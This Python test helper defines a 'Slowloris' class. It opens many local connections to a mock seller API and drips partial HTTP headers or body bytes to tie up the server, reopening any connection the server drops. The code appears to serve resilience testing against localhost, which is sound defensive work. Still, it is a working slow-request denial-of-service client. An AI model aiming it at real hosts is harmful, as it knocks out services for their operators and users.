"""Hostile clients of the mock seller for the end-to-end proofs: a slowloris crowd (the real
mock process is ``mock_helpers.MockProcess``)."""

from __future__ import annotations

import socket
import threading
import time

_LINE = (b"POST /mefApi/sonata/productOfferingQualification/v8/productOfferingQualification "
         b"HTTP/1.1\r\nHost: x\r\n")
_HEADER_HEAD = _LINE
_BODY_HEAD = _LINE + b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"


class Slowloris:
    """``count`` connections from ``source`` that send a request line and then one header
    byte every ``drip`` seconds (``body=True``: whole headers announcing a body, then one
    body byte every ``drip`` seconds), reopening whatever the server closes."""

    def __init__(self, port: int, count: int, source: str = "127.0.0.2",
                 drip: float = 2.0, body: bool = False) -> None:
        self.port, self.count, self.source, self.drip = port, count, source, drip
        self.head = _BODY_HEAD if body else _HEADER_HEAD
        self.opened = 0
        self.closed_by_server = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _open(self) -> socket.socket | None:
        sock = socket.socket()
        sock.settimeout(2)
        try:
            sock.bind((self.source, 0))
            sock.connect(("127.0.0.1", self.port))
            sock.sendall(self.head)
        except OSError:
            sock.close()
            return None
        self.opened += 1
        return sock

    def _run(self) -> None:
        socks = [s for s in (self._open() for _ in range(self.count)) if s is not None]
        while not self._stop.wait(self.drip):
            alive = []
            for sock in socks:
                try:
                    sock.sendall(b"X")
                    alive.append(sock)
                except OSError:
                    self.closed_by_server += 1
                    sock.close()
            socks = alive + [s for s in (self._open() for _ in range(self.count - len(alive)))
                             if s is not None]
        for sock in socks:
            sock.close()

    def __enter__(self) -> Slowloris:
        self._thread.start()
        time.sleep(1.0)  # let the crowd connect first
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=30)
